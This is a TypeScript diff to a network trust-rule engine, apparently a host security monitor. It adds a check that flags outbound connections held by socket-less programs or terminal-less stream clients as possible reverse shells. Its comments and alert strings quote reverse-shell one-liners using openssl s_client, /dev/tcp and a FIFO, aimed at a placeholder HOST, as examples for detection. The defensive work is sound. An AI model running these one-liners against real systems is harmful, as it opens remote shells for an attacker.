@@ -71,6 +71,28 @@ function installed(p: ProcessInfo): boolean {
   return p.provenance?.database !== "dpkg" || (p.package !== null && p.package !== undefined);
 }
 
+/**
+ * A connection to the Internet held by a program that only carries bytes between it and its standard input
+ * and output (openssl s_client, telnet), or by one that never opens a connection itself (sleep, cat): the
+ * building blocks of the reverse shells that no shell holds, `sh -i < FIFO 2>&1 | openssl s_client -quiet
+ * -connect HOST:443 > FIFO` and `cat </dev/tcp/HOST/443 | sh`. Installed and on port 443, they would
+ * otherwise pass for an ordinary web connection. A stream client typed on a terminal (a test of a TLS
+ * server) is only unknown; without a terminal (tty read as none), nobody types into it: suspicious.
+ */
+function pipedOutbound(ctx: RuleContext, p: ProcessInfo, port: number): Reason | null {
+  const names = processNames(p, ctx.knowledge);
+  const carrier = names.find((n) => ctx.knowledge.is("noSockets", n));
+  if (carrier !== undefined) {
+    return reason("handed-connection", "suspicious", `${who(p)} never opens a network connection itself, yet holds one to a server on the Internet (port ${port}): it was handed it, by a shell's redirection (cat </dev/tcp/HOST/PORT | sh, exec 3<>/dev/tcp/HOST/PORT) or a pipeline: a reverse shell or a beacon that no shell is seen to hold`);
+  }
+  const tool = names.find((n) => ctx.knowledge.is("streamClients", n));
+  if (tool === undefined) return null;
+  if (p.tty === null) {
+    return reason("stream-client", "suspicious", `${who(p)} passes its input and output to a server on the Internet (port ${port}) and has no terminal, so nobody is typing into it: its input comes from a pipe or a file, as in the reverse shell sh -i < FIFO 2>&1 | ${tool === "openssl" ? "openssl s_client -quiet -connect" : tool} HOST:PORT > FIFO`);
+  }
+  return reason("stream-client", "unknown", `${who(p)} passes what is typed or piped into it to a server on the Internet (port ${port}): by hand, a test of a server; in a pipeline with a shell (mkfifo), a reverse shell: look at what runs beside it`);
+}
+
 const SCRIPT_PLACE = { memfd: "memory only (fileless)", "world-writable": "a folder anyone can write to", home: "a home directory", hidden: "a hidden folder" } as const;
 
 const WEB_PORTS = { tcp: [80, 443], udp: [443, 3478, 19302] } as const;
@@ -152,6 +174,7 @@ export const TRUST_RULES: readonly Rule[] = [
         if (!isPublic || clientOf("timeClients") || p === null) return reason("usual-outbound", "expected", `A clock sync (NTP) to port 123${p ? ` by ${p.name}` : ""}`);
         return reason("direct-ntp", "unknown", `${who(p)} is not a time daemon but sends NTP-shaped traffic straight to a server on the Internet`);
       }
+      if (isPublic && p !== null) { const piped = pipedOutbound(ctx, p, port); if (piped !== null) return piped; }
       const browser = genuineIn(ctx, "browsers", p), anyPort = genuineIn(ctx, "outboundAny", p);
       if ((browser?.is ?? false) || (anyPort?.is ?? false)) {
         return reason("usual-outbound", "expected", `${p?.name} connects to many ports as part of its job${byNameNote(ctx, browser?.is ? browser : anyPort)}`);
